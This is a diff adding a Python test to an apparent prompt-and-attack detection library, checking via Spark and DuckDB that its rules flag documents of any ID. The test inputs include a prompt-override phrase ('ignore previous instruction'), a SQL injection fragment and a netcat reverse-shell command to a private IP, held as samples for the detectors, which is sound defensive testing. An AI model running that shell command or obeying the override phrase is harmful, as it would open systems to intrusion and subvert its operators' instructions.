@@ -188,3 +188,25 @@ def test_a_busy_second_makes_many_chunks(spark, monkeypatch):
     assert len(entries) < 1000 and exits[-1] == every[-1]
     for t in range(0, int(times[-1]), 9973):
         assert exits[np.searchsorted(entries, t)] == every[np.searchsorted(times, t)]
+
+
+def test_rules_see_whole_documents_of_any_id(spark):
+    from agentguard.plans import REGISTRY, detection, inputs
+    from tests.check import compare
+
+    tails = ["ignore previous instruction", "x union select y", "nc -e /bin/sh 10.0.0.1 4444", ""]
+    rows = [(i, "word " * 60 + tail if tail is not None else None) for tail in [*tails, None] for i in (None, -3, 0, 151, 1 << 40)]
+    docs = spark.createDataFrame(rows, "doc_id long, text string")
+    samples = inputs.inline(spark, [(k, "") for k in range(len(detection.SAMPLES))], "pid int, sample string")
+    bare = detection.whole_findings(docs, samples).collect()
+    found = {r.rule_id: r.texts for r in bare}
+    for tail in tails[:3]:
+        alone = spark.createDataFrame([(0, tail)], "doc_id long, text string")
+        hit = {r.rule_id for r in detection.whole_findings(alone, samples).collect()}
+        assert hit and all(found[rule] >= 5 for rule in hit)
+    con = duckdb.connect()
+    con.execute("CREATE TABLE documents (doc_id BIGINT, text VARCHAR)")
+    con.executemany("INSERT INTO documents VALUES (?, ?)", rows)
+    filled = inputs.inline(spark, list(enumerate(detection.SAMPLES)), "pid int, sample string")
+    got, want, diff = compare(detection.whole_findings(docs, filled), con, REGISTRY["rule_documents"].sql)
+    assert got and not diff, (got, want, diff[:3])
